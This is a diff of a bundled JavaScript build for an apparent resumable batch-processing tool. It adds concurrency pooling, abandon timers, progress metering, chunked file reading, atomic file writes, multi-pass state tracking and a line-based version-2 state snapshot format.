+        run.then((result) => this.end(result), (error) => this.end({ ok: false, kind: "permanent", error: `handler crashed: ${String(error)}` }));
+    }
+    /** The signal fired: give the handler abandonAfterMs more. */
+    aborted() {
+        this.cancelAbandon = this.o.system.setTimer(() => this.resolve(ABANDONED), this.o.abandonAfterMs);
+    }
+    end(result) {
+        this.watching.remove(this);
+        this.cancelAbandon?.();
+        this.resolve(result);
+    }
+}
+/**
+ * The attempts watching one signal, behind one 'abort' listener per signal. Every attempt
+ * of a run waits on the same stop signal: adding and removing an EventTarget listener per
+ * attempt cost more than the rest of the runner's per-item work. A linked list through
+ * the attempts, not a Set: joining and leaving are a few pointer writes, with no hashing,
+ * and attempts are told in the order they joined.
+ */
+class WatchList {
+    head;
+    tail;
+    constructor(signal) {
+        signal.addEventListener("abort", () => {
+            let s = this.head;
+            this.head = this.tail = undefined;
+            while (s !== undefined) {
+                const next = s.next;
+                s.prev = s.next = undefined;
+                s.listed = false;
+                s.aborted();
+                s = next;
+            }
+        }, { once: true });
+    }
+    add(s) {
+        s.listed = true;
+        s.prev = this.tail;
+        if (this.tail === undefined)
+            this.head = s;
+        else
+            this.tail.next = s;
+        this.tail = s;
+    }
+    /** Leaving after the signal fired (the list was emptied then) is a no-op. */
+    remove(s) {
+        if (!s.listed)
+            return;
+        s.listed = false;
+        if (s.prev === undefined)
+            this.head = s.next;
+        else
+            s.prev.next = s.next;
+        if (s.next === undefined)
+            this.tail = s.prev;
+        else
+            s.next.prev = s.prev;
+        s.prev = s.next = undefined;
+    }
+}
+const watchLists = new WeakMap();
+function watchersOf(signal) {
+    let list = watchLists.get(signal);
+    if (list === undefined) {
+        list = new WatchList(signal);
+        watchLists.set(signal, list);
+    }
+    return list;
+}
+function withAbandon(run, o) {
+    return new Promise((resolve) => {
+        const cancel = o.system.setTimer(() => resolve(ABANDONED), o.abandonAfterMs);
+        run.then((r) => {
+            cancel();
+            resolve(r);
+        }, () => {
+            cancel();
+            resolve(ABANDONED);
+        });
+    });
+}
+
+;// CONCATENATED MODULE: ./src/core/run/pool.ts
+/**
+ * Runs work over items pulled one at a time from `next`, at most `concurrency` at once.
+ * Items are pulled only when a lane is free (a queue of functions, not of started
+ * promises), and `canStart` is asked before each pull, so a stop or an exhausted budget
+ * takes effect before the next item, not after the whole queue.
+ */
+async function runPool(options) {
+    const { next, take, canStart, beforeStart, work } = options;
+    const lane = async () => {
+        for (;;) {
+            if (!canStart())
+                return;
+            // Asked again after the wait: a stop or the budget may have come in meanwhile.
+            if (beforeStart) {
+                const go = beforeStart();
+                if (go !== true && (!(await go) || !canStart()))
+                    return;
+            }
+            let item = take?.();
+            if (item === undefined)
+                item = await next();
+            if (item === undefined)
+                return;
+            await work(item);
+        }
+    };
+    const lanes = [];
+    for (let i = 0; i < Math.max(1, options.concurrency); i++)
+        lanes.push(lane());
+    await Promise.all(lanes);
+}
+/**
+ * Turns an async generator of batches into a `next()` that many lanes may call at once:
+ * one refill is in flight at a time, and each call gets a distinct item. `next.take()`
+ * hands out the next item of the current batch at once, or undefined when it is used up.
+ */
+function batchedNext(batches) {
+    let batch = [];
+    let index = 0;
+    let exhausted = false;
+    let refill;
+    const take = () => (index < batch.length ? batch[index++] : undefined);
+    const next = async () => {
+        for (;;) {
+            if (index < batch.length)
+                return batch[index++];
+            if (exhausted)
+                return undefined;
+            refill ??= batches.next().then((r) => {
+                refill = undefined;
+                if (r.done)
+                    exhausted = true;
+                else {
+                    batch = r.value;
+                    index = 0;
+                }
+            });
+            await refill;
+        }
+    };
+    return Object.assign(next, { take });
+}
+
+;// CONCATENATED MODULE: ./src/core/run/process-items.ts
+
+
+
+
+
+/**
+ * After its signal fires, a handler that ignores it is walked away from after the grace,
+ * but never later than this: one stuck item must not hold up stopping and saving.
+ */
+const MAX_ABANDON_AFTER_MS = 2000;
+/**
+ * Works through the queue, `concurrency` items at a time, until it is empty, a stop
+ * arrives or the budget would not cover another item; each outcome goes to the recorder.
+ */
+async function processItems(options, queue, run) {
+    const { state, budget, stop, meter, recorder } = run;
+    const runnerOptions = itemRunnerOptions(options, run);
+    await runPool({
+        next: queue.next,
+        take: queue.take,
+        concurrency: options.concurrency,
+        canStart: () => {
+            if (stop.soft.signal.aborted)
+                return false;
+            if (budget.deadlineAtMs === undefined || budget.canStart(options.system.nowMs()))
+                return true;
+            stopForBudget(options, stop, budget);
+            return false;
+        },
+        beforeStart: options.beforeStart ? () => options.beforeStart(stop.soft.signal) : undefined,
+        // A then, not an async function: one promise and frame less per item.
+        work: (item) => {
+            meter.inFlight++;
+            const prior = state.failures.size === 0 ? undefined : state.failures.get(item.id);
+            return runItem(item, prior?.attempts ?? 0, runnerOptions).then((outcome) => {
+                meter.inFlight--;
+                recorder.record(item, outcome);
+            });
+        },
+    });
+}
+function itemRunnerOptions(options, run) {
+    return {
+        handler: options.handler,
+        system: options.system,
+        maxAttempts: options.maxAttempts,
+        backoff: options.backoff,
+        itemTimeoutMs: options.itemTimeoutMs,
+        abandonAfterMs: Math.min(MAX_ABANDON_AFTER_MS, options.shutdownGraceMs),
+        soft: run.stop.soft.signal,
+        hard: run.stop.hard.signal,
+        budget: run.budget,
+        idempotencyNamespace: options.idempotencyNamespace,
+        pass: run.state.pass,
+        // Versions exist only where items changed (or changed in an earlier run with reprocess-changed).
+        versionOf: options.changes || run.state.versions.size > 0 ? (item) => versionOf(run.state, item, options.changes) : undefined,
+        onThrottle: options.onThrottle,
+        onRetry: (item, attempt, result, delayMs) => run.itemLog.write(`↻ ${logId(item.id)}: attempt ${attempt} failed (${result.kind}): ${oneLine(result.error)}; retrying in ${Math.round(delayMs)}ms`),
+    };
+}
+function stopForBudget(options, stop, budget) {
+    if (!stop.soft.signal.aborted) {
+        options.log.info("the time budget left would not cover another item: stopping here; the next run resumes");
+        // In-flight items may finish, but not past the start of the reserve.
+        stop.request("budget", Math.max(0, Math.min(options.shutdownGraceMs, budget.leftMs(options.system.nowMs()))));
+    }
+}
+
+;// CONCATENATED MODULE: ./src/core/run/progress.ts
+/**
+ * Rate over a sliding window: samples of (time, finished) taken at each read; the rate is
+ * the change across the window, so it follows the current speed, not the run's average.
+ */
+class ProgressMeter {
+    total;
+    startedAtMs;
+    windowMs;
+    succeeded = 0;
+    failed = 0;
+    inFlight = 0;
+    samples = [];
+    constructor(total, startedAtMs, windowMs = 10_000) {
+        this.total = total;
+        this.startedAtMs = startedAtMs;
+        this.windowMs = windowMs;
+    }
+    snapshot(nowMs) {
+        const finished = this.succeeded + this.failed;
+        this.samples.push({ atMs: nowMs, finished });
+        while (this.samples.length > 2 && nowMs - this.samples[0].atMs > this.windowMs)
+            this.samples.shift();
+        const oldest = this.samples[0];
+        const spanMs = nowMs - oldest.atMs;
+        const elapsedMs = nowMs - this.startedAtMs;
+        let ratePerSec = spanMs > 0 ? ((finished - oldest.finished) * 1000) / spanMs : 0;
+        if (ratePerSec === 0 && elapsedMs > 0 && this.samples.length <= 2)
+            ratePerSec = (finished * 1000) / elapsedMs;
+        const left = Math.max(0, this.total - finished);
+        return {
+            total: this.total,
+            succeeded: this.succeeded,
+            failed: this.failed,
+            inFlight: this.inFlight,
+            left,
+            ratePerSec,
+            etaMs: ratePerSec > 0 ? (left / ratePerSec) * 1000 : undefined,
+            elapsedMs,
+        };
+    }
+}
+
 ;// CONCATENATED MODULE: ./src/core/state/failure-groups.ts
 /** Longest cause returned by `normaliseCause`, in UTF-16 code units (the last one is `…`). */
 const MAX_CAUSE_LENGTH = 200;
@@ -4109,9 +5257,151 @@ function mostCommonKind(counts) {
     return best ?? "permanent";
 }
 
+;// CONCATENATED MODULE: ./src/core/state/line-file.ts
+
+
+/** Bytes read per call: large enough that the per-call cost vanishes, small enough to never matter. */
+const READ_CHUNK_BYTES = 1024 * 1024;
+/** Characters buffered before a write: bounds the writer's memory whatever the file's size. */
+const WRITE_BUFFER_CHARS = 1024 * 1024;
+/**
+ * Calls onLine for each line of a file, in order, reading it a chunk at a time: the file is
+ * never one string (V8 caps a string near 512 MiB; a state may be larger). Synchronous, so
+ * a signal handler or a status command can rely on it finishing before anything else runs.
+ * `terminated` is false only for a last line without its newline (a write torn by a kill).
+ * Bytes that are not UTF-8 are a StateError: a state file is only ever written by us.
+ * Returns the bytes read.
+ */
+function forEachLine(path, onLine) {
+    const fd = (0,external_node_fs_.openSync)(path, "r");
+    const decoder = new TextDecoder("utf-8", { fatal: true, ignoreBOM: true });
+    const chunk = Buffer.allocUnsafe(READ_CHUNK_BYTES);
+    const carry = [];
+    let lineNumber = 0;
+    let total = 0;
+    const decode = (bytes) => {
+        try {
+            return decoder.decode(bytes);
+        }
+        catch {
+            throw new StateError(`${path}: not valid UTF-8 after line ${lineNumber}; the file is corrupt`);
+        }
+    };
+    try {
+        for (;;) {
+            const n = (0,external_node_fs_.readSync)(fd, chunk, 0, chunk.length, null);
+            if (n === 0)
+                break;
+            total += n;
+            const data = chunk.subarray(0, n);
+            const lastNl = data.lastIndexOf(0x0a);
+            if (lastNl === -1) {
+                carry.push(Buffer.from(data));
+                continue;
+            }
+            // Complete lines are decoded in one call and split as a string: a newline byte never
+            // occurs inside a UTF-8 sequence, so that is the same text as decoding line by line.
+            const complete = carry.length === 0 ? data.subarray(0, lastNl + 1) : Buffer.concat([...carry, data.subarray(0, lastNl + 1)]);
+            carry.length = 0;
+            const lines = decode(complete).split("\n");
+            lines.pop();
+            for (const line of lines)
+                onLine(line, ++lineNumber, true);
+            if (lastNl + 1 < n)
+                carry.push(Buffer.from(data.subarray(lastNl + 1)));
+        }
+        if (carry.length > 0)
+            onLine(decode(Buffer.concat(carry)), ++lineNumber, false);
+    }
+    finally {
+        (0,external_node_fs_.closeSync)(fd);
+    }
+    return total;
+}
+/**
+ * Writes a file a piece at a time into a temp file beside it, then fsync and rename: a
+ * reader (or a crash) sees the old file or the whole new one, never a part. The content
+ * is never one string, so it may be larger than a JavaScript string can hold.
+ */
+class AtomicFileWriter {
+    path;
+    tmp;
+    fd;
+    pending = "";
+    bytesWritten = 0;
+    constructor(path) {
+        this.path = path;
+        this.tmp = `${path}.tmp-${process.pid}`;
+        this.fd = (0,external_node_fs_.openSync)(this.tmp, "w");
+    }
+    write(text) {
+        if (text.length >= WRITE_BUFFER_CHARS) {
+            // A large piece (an item of many MiB) is written alone, never joined to the buffer.
+            this.flush();
+            this.writeNow(text);
+            return;
+        }
+        this.pending += text;
+        if (this.pending.length >= WRITE_BUFFER_CHARS)
+            this.flush();
+    }
+    /** Makes the new file the file: flush, fsync, close, rename. */
+    commit() {
+        this.flush();
+        const fd = this.requireOpen();
+        (0,external_node_fs_.fsyncSync)(fd);
+        (0,external_node_fs_.closeSync)(fd);
+        this.fd = undefined;
+        (0,external_node_fs_.renameSync)(this.tmp, this.path);
+    }
+    /** Gives up: the temp file goes, the file at path stays as it was. */
+    abort() {
+        if (this.fd !== undefined)
+            (0,external_node_fs_.closeSync)(this.fd);
+        this.fd = undefined;
+        (0,external_node_fs_.rmSync)(this.tmp, { force: true });
+    }
+    flush() {
+        if (this.pending.length === 0)
+            return;
+        const text = this.pending;
+        this.pending = "";
+        this.writeNow(text);
+    }
+    writeNow(text) {
+        const fd = this.requireOpen();
+        const buffer = Buffer.from(text, "utf8");
+        let offset = 0;
+        while (offset < buffer.length)
+            offset += (0,external_node_fs_.writeSync)(fd, buffer, offset);
+        this.bytesWritten += buffer.length;
+    }
+    requireOpen() {
+        if (this.fd === undefined)
+            throw new Error(`${this.tmp}: already closed`);
+        return this.fd;
+    }
+}
+/** Writes a file through AtomicFileWriter from a producer of pieces; the temp file goes on error. */
+function writeFileInPieces(path, produce) {
+    const writer = new AtomicFileWriter(path);
+    try {
+        produce((text) => writer.write(text));
+        writer.commit();
+    }
+    catch (error) {
+        writer.abort();
+        throw error;
+    }
+    return writer.bytesWritten;
+}
+
 ;// CONCATENATED MODULE: ./src/core/state/batch-state.ts
+
 /** Run history kept for progress charts; a run every 5 minutes for a week fits. */
 const MAX_RUNS_KEPT = 2000;
+/** Finished passes kept in the history; a pass a day for more than a year fits. */
+const MAX_PASSES_KEPT = 500;
 /**
  * The whole state in memory: finished ids, failed items, and the history of runs.
  * Built from a snapshot plus the journal replayed on top of it.
@@ -4129,6 +5419,23 @@ class BatchState {
     failures = new Map();
     runs = [];
     origin = { seq: 0, runId: "", runAttempt: 0 };
+    /** The current pass: 1 for every state from before passes existed. */
+    pass = 1;
+    /** ISO 8601: when the current pass's first run started (undefined before any run). */
+    passStartedAt;
+    /** ISO 8601: when a normal run first found nothing left in the current pass. */
+    passCompletedAt;
+    /** The `repeat` interval the latest run had, for telling when the next pass starts. */
+    repeatMs;
+    /** Finished passes, oldest first. */
+    passes = [];
+    /**
+     * With reprocess-changed: the fingerprint of each done (or failed) item's content when
+     * it was done (or failed). Empty unless the feature was used: it costs memory per item.
+     */
+    fingerprints = new Map();
+    /** Items whose version in this pass is not 0 (they changed since first done): few. */
+    versions = new Map();
     /** The run whose start was replayed but not yet its end. */
     openRun;
     /** Items done over all runs. */
@@ -4143,6 +5450,17 @@ class BatchState {
         if (this.openRun)
             this.openRun.succeeded++;
     }
+    /**
+     * Records an item the run in progress finished that may have been done before in this
+     * pass (reprocess-changed): such an item is in the done set already, and must not be
+     * listed twice.
+     */
+    markDoneAgainInRun(id) {
+        if (this.done.has(id))
+            this.markDone(id);
+        else
+            this.markDoneInRun(id);
+    }
     /** Records a finished item read back from the journal. */
     markDone(id) {
         this.done.add(id);
@@ -4152,13 +5470,74 @@ class BatchState {
         if (this.openRun)
             this.openRun.succeeded++;
     }
+    /** Records the fingerprint and version a done or fail record carries. */
+    noteVersion(record) {
+        const fingerprint = parseFingerprintText(record.f);
+        if (fingerprint !== undefined)
+            this.fingerprints.set(record.id, fingerprint);
+        if (record.v !== undefined && record.v > 0)
+            this.versions.set(record.id, record.v);
+        else if (this.versions.size > 0)
+            this.versions.delete(record.id);
+    }
+    /** The current pass as it stands, in the history's form. */
+    currentPass() {
+        const runs = this.runs.filter((r) => (r.pass ?? 1) === this.pass).length;
+        return {
+            pass: this.pass,
+            ...(this.passStartedAt === undefined ? {} : { startedAt: this.passStartedAt }),
+            ...(this.passCompletedAt === undefined ? {} : { completedAt: this.passCompletedAt }),
+            succeeded: this.doneCount,
+            failed: this.failures.size,
+            runs,
+        };
+    }
+    /**
+     * Starts pass `pass` at `at`: the current one goes to the history, and nothing is done
+     * or failed in the new one. O(1) in the items but for clearing the sets.
+     */
+    startPass(pass, at) {
+        if (pass <= this.pass)
+            return;
+        this.passes.push(this.currentPass());
+        if (this.passes.length > MAX_PASSES_KEPT)
+            this.passes.splice(0, this.passes.length - MAX_PASSES_KEPT);
+        this.done.clear();
+        this.doneThisRun.length = 0;
+        this.failures.clear();
+        this.fingerprints.clear();
+        this.versions.clear();
+        this.pass = pass;
+        this.passStartedAt = at;
+        this.passCompletedAt = undefined;
+    }
+    /**
+     * A state saved before passes existed is pass 1: it started with the first run kept, and
+     * it is complete when the last normal run left nothing.
+     */
+    adoptLegacyPass() {
+        this.pass = 1;
+        this.passStartedAt = this.runs[0]?.startedAt;
+        const lastNormal = [...this.runs].reverse().find((r) => r.mode === "run" && r.remaining !== undefined);
+        this.passCompletedAt = lastNormal?.remaining === 0 ? lastNormal.endedAt : undefined;
+    }
     /** Applies one journal record. Idempotent: every record carries absolute values. */
     apply(record) {
         switch (record.t) {
             case "done":
                 this.markDone(record.id);
+                if (record.f !== undefined || record.v !== undefined || this.versions.size > 0)
+                    this.noteVersion(record);
+                return;
+            case "pass":
+                this.startPass(record.pass, record.at);
                 return;
             case "fail":
+                // An item done earlier in the pass that changed and then failed is failed, not done.
+                if (this.done.size > 0)
+                    this.done.delete(record.id);
+                if (record.f !== undefined || record.v !== undefined || this.versions.size > 0)
+                    this.noteVersion(record);
                 if (this.openRun)
                     this.openRun.failed++;
                 this.failures.set(record.id, {
@@ -4177,10 +5556,12 @@ class BatchState {
                 if (record.seq > this.origin.seq) {
                     this.origin = { seq: record.seq, runId: record.runId, runAttempt: record.runAttempt };
                 }
+                this.passStartedAt ??= record.at;
+                this.repeatMs = record.repeatMs;
                 if (!this.runs.some((r) => r.seq === record.seq)) {
                     this.openRun = {
                         seq: record.seq, runId: record.runId, runAttempt: record.runAttempt, mode: record.mode,
-                        startedAt: record.at, succeeded: 0, failed: 0,
+                        pass: record.pass ?? this.pass, startedAt: record.at, succeeded: 0, failed: 0,
                     };
                     this.runs.push(this.openRun);
                     if (this.runs.length > MAX_RUNS_KEPT)
@@ -4201,6 +5582,16 @@ class BatchState {
                         run.total = record.total;
                     if (record.remaining !== undefined)
                         run.remaining = record.remaining;
+                    if (record.changed !== undefined)
+                        run.changed = record.changed;
+                    if (run.mode === "run" && record.remaining !== undefined && (run.pass ?? 1) === this.pass) {
+                        // Complete from the first run that left nothing; a later one that found new
+                        // items (or a changed one failing transiently) makes it incomplete again.
+                        if (record.remaining > 0)
+                            this.passCompletedAt = undefined;
+                        else
+                            this.passCompletedAt ??= record.at;
+                    }
                 }
                 return;
             }
@@ -4208,122 +5599,295 @@ class BatchState {
     }
 }
 
-;// CONCATENATED MODULE: ./src/core/state/state-store.ts
+;// CONCATENATED MODULE: ./src/core/state/pass-snapshot.ts
 
 
-
-
-
-/**
- * The state folder:
- *   snapshot.json           compacted state of generation G (absent before the first compaction)
- *   journal-<G>.jsonl       records appended since snapshot G, one JSON object a line
- *   failures.json           the reviewable failures, regenerated from state
- *   lock                    present while a run uses the folder
- * A compaction writes snapshot G+1 (tmp + rename, atomic), then appends go to
- * journal-<G+1>.jsonl and journal-<G>.jsonl is deleted. A crash at any point leaves a
- * snapshot and the one journal that follows it, so nothing is lost or replayed twice.
- */
-const SNAPSHOT_FILE = "snapshot.json";
-const FAILURES_FILE = "failures.json";
-const LOCK_FILE = "lock";
-const SNAPSHOT_FORMAT = "resumable-batch-state";
-const SNAPSHOT_VERSION = 1;
-const JOURNAL_PATTERN = /^journal-(\d+)\.jsonl$/;
-const FAILURE_KINDS = new Set(["transient", "permanent", "timeout", "quarantined"]);
-function journalFileName(generation) {
-    return `journal-${generation}.jsonl`;
+function passHeaderOf(state) {
+    return {
+        pass: state.pass,
+        ...(state.passStartedAt === undefined ? {} : { passStartedAt: state.passStartedAt }),
+        ...(state.passCompletedAt === undefined ? {} : { passCompletedAt: state.passCompletedAt }),
+        ...(state.repeatMs === undefined ? {} : { repeatMs: state.repeatMs }),
+    };
 }
-/** Loads snapshot + journal. Throws StateError when the folder cannot be trusted. */
-function loadState(dir) {
-    const state = new BatchState();
-    const warnings = [];
-    if (!(0,external_node_fs_.existsSync)(dir))
-        return { state, generation: 0, journalBytes: 0, warnings };
-    let generation = 0;
-    const snapshotPath = (0,external_node_path_.join)(dir, SNAPSHOT_FILE);
-    if ((0,external_node_fs_.existsSync)(snapshotPath))
-        generation = readSnapshot(snapshotPath, state);
-    let journalBytes = 0;
-    for (const name of (0,external_node_fs_.readdirSync)(dir)) {
-        const m = JOURNAL_PATTERN.exec(name);
-        if (!m)
-            continue;
-        const g = Number(m[1]);
-        if (g > generation) {
-            throw new StateError(`${(0,external_node_path_.join)(dir, name)}: journal generation ${g} is newer than the snapshot's (${generation}); the state folder is inconsistent`);
+/** Applies the header's pass fields; false when it has none (a state from before passes). */
+function applyPassHeader(r, state) {
+    if (r.pass === undefined)
+        return false;
+    if (typeof r.pass !== "number" || !Number.isSafeInteger(r.pass) || r.pass < 1)
+        throw new SchemaViolation(`'pass' must be a whole number from 1, not ${String(r.pass)}`);
+    state.pass = r.pass;
+    state.passStartedAt = optionalTime(r, "passStartedAt");
+    state.passCompletedAt = optionalTime(r, "passCompletedAt");
+    if (r.repeatMs !== undefined && (typeof r.repeatMs !== "number" || !(r.repeatMs > 0)))
+        throw new SchemaViolation("'repeatMs' must be a positive number");
+    state.repeatMs = r.repeatMs;
+    return true;
+}
+function optionalTime(r, key) {
+    const v = r[key];
+    if (v === undefined)
+        return undefined;
+    // As checkRun reads startedAt: the text is shown, never computed with, if it is not a time.
+    if (typeof v !== "string" || v === "" || v.length > 100)
+        throw new SchemaViolation(`'${key}' must be an ISO time`);
+    return v;
+}
+/** A finished pass as the history line stores it. */
+function checkPassSummary(r) {
+    const whole = (key, min) => {
+        const v = r[key];
+        if (typeof v !== "number" || !Number.isSafeInteger(v) || v < min)
+            throw new SchemaViolation(`'${key}' must be a whole number from ${min}`);
+        return v;
+    };
+    const startedAt = optionalTime(r, "startedAt");
+    const completedAt = optionalTime(r, "completedAt");
+    return {
+        pass: whole("pass", 1),
+        ...(startedAt === undefined ? {} : { startedAt }),
+        ...(completedAt === undefined ? {} : { completedAt }),
+        succeeded: whole("succeeded", 0),
+        failed: whole("failed", 0),
+        runs: whole("runs", 0),
+    };
+}
+/** The "f" member of a done line: its ids' fingerprints, when the state keeps any. */
+function doneLineFingerprints(state, ids) {
+    return state.fingerprints.size === 0 ? "" : ',"f":"' + encodeFingerprintColumn(ids, state.fingerprints) + '"';
+}
+/** Reads a done line's "f" member into the state, by position in its ids. */
+function applyDoneLineFingerprints(r, ids, state) {
+    if (r.f === undefined)
+        return;
+    if (typeof r.f !== "string" || r.f.length !== 8 * ids.length || !/^[A-Za-z0-9_-]*$/.test(r.f)) {
+        throw new SchemaViolation("'f' must hold 8 base64url characters per done id");
+    }
+    decodeFingerprintColumn(r.f, ids, state.fingerprints);
+}
+/** The fingerprint a failure line carries, as its "f" member. */
+function failureFingerprint(state, id) {
+    const fingerprint = state.fingerprints.size === 0 ? undefined : state.fingerprints.get(id);
+    return fingerprint === undefined ? {} : { f: fingerprintText(fingerprint) };
+}
+function applyFailureFingerprint(r, id, state) {
+    if (r.f === undefined)
+        return;
+    const fingerprint = parseFingerprintText(r.f);
+    if (fingerprint === undefined)
+        throw new SchemaViolation("'f' must be 8 base64url characters");
+    state.fingerprints.set(id, fingerprint);
+}
+/** Lines of {"t":"versions"} records, each with up to `perLine` items. */
+function versionLines(state, perLine = 2000) {
+    const lines = [];
+    let items = [];
+    for (const entry of state.versions) {
+        items.push(entry);
+        if (items.length === perLine) {
+            lines.push(JSON.stringify({ t: "versions", items }));
+            items = [];
         }
-        if (g < generation)
-            (0,external_node_fs_.rmSync)((0,external_node_path_.join)(dir, name), { force: true }); // already compacted into the snapshot
     }
-    const journalPath = (0,external_node_path_.join)(dir, journalFileName(generation));
-    if ((0,external_node_fs_.existsSync)(journalPath)) {
-        const text = (0,external_node_fs_.readFileSync)(journalPath, "utf8");
-        journalBytes = Buffer.byteLength(text);
-        replayJournalText(text, state, journalPath, warnings);
-    }
-    return { state, generation, journalBytes, warnings };
+    if (items.length > 0)
+        lines.push(JSON.stringify({ t: "versions", items }));
+    return lines;
 }
+/** Applies a versions line; returns how many items it held. */
+function applyVersionsLine(r, state) {
+    if (!Array.isArray(r.items))
+        throw new SchemaViolation("'items' must be an array");
+    for (const entry of r.items) {
+        if (!Array.isArray(entry) || typeof entry[0] !== "string" || !Number.isSafeInteger(entry[1]) || entry[1] < 1) {
+            throw new SchemaViolation("a version must be [id, whole number from 1]");
+        }
+        state.versions.set(entry[0], entry[1]);
+    }
+    return r.items.length;
+}
+
+
+;// CONCATENATED MODULE: ./src/core/state/snapshot-v2.ts
+
+
+
+
+const SNAPSHOT_FORMAT = "resumable-batch-state";
+const SNAPSHOT_VERSION = 2;
+/** How every version-2 snapshot starts: readers tell the versions apart by these bytes. */
+const SNAPSHOT_V2_PREFIX = '{"t":"snapshot",';
+/** A line of done ids holds about this many characters: one JSON.parse per line stays cheap. */
+const DONE_LINE_CHARS = 64 * 1024;
 /**
- * Replays journal text into state. A last line without its newline is a write torn by a
- * kill: ignored. A bad line in the middle is skipped with a warning: the rest still counts.
+ * Snapshot version 2: JSON Lines, one record a line, each tagged by `t`, so no line is
+ * larger than its largest record and the file is written and read a line at a time:
+ *
+ *   {"t":"snapshot","format":"resumable-batch-state","version":2,"generation":G,"origin":{…},"savedAt":"…"}
+ *   {"t":"run", …RunRecord}            one per run kept (oldest first)
+ *   {"t":"failure", …FailureRecord}    one per failed item
+ *   {"t":"done","ids":["a","b",…]}     done ids, about 64 KiB of them a line
+ *   {"t":"pass", …} {"t":"versions", …} passes and item versions (pass-snapshot.ts)
+ *   {"t":"end","runs":R,"failures":F,"done":D,"passes":P,"versions":V}
+ *
+ * The first line comes first; the end line comes last and counts what came before it, so
+ * a truncated copy is refused, never taken for a smaller state. A new kind of record is a
+ * new tag: write it before the end line, read it in applyRecord, count it in the end line.
  */
-function replayJournalText(text, state, where, warnings) {
-    let applied = 0;
-    let start = 0;
-    let lineNumber = 0;
-    const badLines = [];
-    while (start < text.length) {
-        let end = text.indexOf("\n", start);
-        const torn = end === -1;
-        if (torn)
-            end = text.length;
-        lineNumber++;
-        const line = text.slice(start, end);
-        start = end + 1;
-        if (line.length === 0)
-            continue;
+function writeSnapshotV2(path, state, generation, savedAt) {
+    return writeFileInPieces(path, (write) => {
+        const header = { t: "snapshot", format: SNAPSHOT_FORMAT, version: SNAPSHOT_VERSION, generation, origin: state.origin, savedAt, ...passHeaderOf(state) };
+        write(JSON.stringify(header) + "\n");
+        for (const run of state.runs)
+            write(JSON.stringify({ t: "run", ...run }) + "\n");
+        for (const pass of state.passes)
+            write(JSON.stringify({ t: "pass", ...pass }) + "\n");
+        for (const line of versionLines(state))
+            write(line + "\n");
+        for (const failure of state.failures.values())
+            write(JSON.stringify({ t: "failure", ...failure, ...failureFingerprint(state, failure.id) }) + "\n");
+        let chunk = [];
+        let chunkChars = 0;
+        const flushIds = () => {
+            if (chunk.length === 0)
+                return;
+            write('{"t":"done","ids":' + JSON.stringify(chunk) + doneLineFingerprints(state, chunk) + "}\n");
+            chunk = [];
+            chunkChars = 0;
+        };
+        const add = (id) => {
+            chunk.push(id);
+            chunkChars += id.length + 3;
+            if (chunkChars >= DONE_LINE_CHARS)
+                flushIds();
+        };
+        for (const id of state.done)
+            add(id);
+        for (const id of state.doneThisRun)
+            add(id);
+        flushIds();
+        const end = {
+            t: "end", runs: state.runs.length, failures: state.failures.size, done: state.doneCount,
+            ...(state.passes.length > 0 ? { passes: state.passes.length } : {}),
+            ...(state.versions.size > 0 ? { versions: state.versions.size } : {}),
+        };
+        write(JSON.stringify(end) + "\n");
+    });
+}
+/** Reads a version-2 snapshot into state (which must be empty); returns its generation. */
+function readSnapshotV2(path, state) {
+    let generation = -1;
+    let ended = false;
+    const seen = { runs: 0, failures: 0, done: 0, passes: 0, versions: 0 };
+    let hasPass = false;
+    forEachLine(path, (line, lineNumber, terminated) => {
+        const where = `${path}:${lineNumber}`;
+        if (!terminated)
+            throw new StateError(`${where}: the last line is cut off; the snapshot is truncated`);
+        if (ended)
+            throw new StateError(`${where}: a line after the end record; the snapshot is corrupt`);
         let record;
         try {
             record = JSON.parse(line);
         }
-        catch {
-            record = undefined;
+        catch (error) {
+            throw new StateError(`${where}: not readable JSON (${error.message}); the snapshot is corrupt`);
         }
-        if (record && isJournalRecord(record)) {
-            state.apply(record);
-            applied++;
+        try {
+            if (!isObject(record))
+                throw new SchemaViolation("a line must be a JSON object");
+            if (lineNumber === 1) {
+                generation = applyHeader(record, state);
+                hasPass = applyPassHeader(record, state);
+            }
+            else if (record.t === "end") {
+                checkEnd(record, seen);
+                ended = true;
+            }
+            else
+                applyRecord(record, state, seen);
         }
-        else if (torn) {
-            warnings.push(`${where}:${lineNumber}: ignored a torn last line (the previous run was killed mid-write)`);
+        catch (error) {
+            if (error instanceof SchemaViolation)
+                throw new StateError(`${where}: ${error.message}`);
+            throw error;
         }
-        else {
-            badLines.push(lineNumber);
-        }
-    }
-    if (badLines.length > 0) {
-        warnings.push(`${where}: skipped ${badLines.length} unreadable line(s): ${badLines.slice(0, 10).join(", ")}${badLines.length > 10 ? ", …" : ""}`);
-    }
-    return applied;
+    });
+    if (generation < 0)
+        throw new StateError(`${path}: empty; the snapshot is corrupt`);
+    if (!ended)
+        throw new StateError(`${path}: no end record; the snapshot is truncated`);
+    if (!hasPass)
+        state.adoptLegacyPass();
+    return generation;
 }
-function isJournalRecord(r) {
-    if (typeof r !== "object" || r === null)
-        return false;
-    const rec = r;
-    switch (rec.t) {
-        case "done":
-            return typeof rec.id === "string";
-        case "fail":
-            return typeof rec.id === "string" && typeof rec.kind === "string" && FAILURE_KINDS.has(rec.kind) &&
-                typeof rec.error === "string" && typeof rec.attempts === "number";
-        case "start":
-        case "end":
-            return typeof rec.seq === "number";
+function applyHeader(r, state) {
+    if (r.t !== "snapshot" || r.format !== SNAPSHOT_FORMAT)
+        throw new SchemaViolation("not a resumable-batch state snapshot");
+    if (r.version !== SNAPSHOT_VERSION) {
+        throw new SchemaViolation(`state version ${String(r.version)} is not supported (this release reads versions 1 and ${SNAPSHOT_VERSION})`);
+    }
+    const generation = r.generation;
+    if (typeof generation !== "number" || !Number.isSafeInteger(generation) || generation < 0)
+        throw new SchemaViolation("bad generation");
+    state.origin = checkOrigin(r.origin);
+    return generation;
+}
+function applyRecord(r, state, seen) {
+    switch (r.t) {
+        case "done": {
+            const ids = r.ids;
+            if (!Array.isArray(ids))
+                throw new SchemaViolation("'ids' must be an array");
+            for (const id of ids)
+                state.done.add(checkId(id));
+            applyDoneLineFingerprints(r, ids, state);
+            seen.done += ids.length;
+            return;
+        }
+        case "pass":
+            state.passes.push(checkPassSummary(r));
+            seen.passes++;
+            return;
+        case "versions":
+            seen.versions += applyVersionsLine(r, state);
+            return;
+        case "failure": {
+            const f = checkFailure(r);
+            applyFailureFingerprint(r, f.id, state);
+            state.failures.set(f.id, f);
+            seen.failures++;
+            return;
+        }
+        case "run":
+            state.runs.push(checkRun(r));
+            seen.runs++;
+            return;
         default:
-            return false;
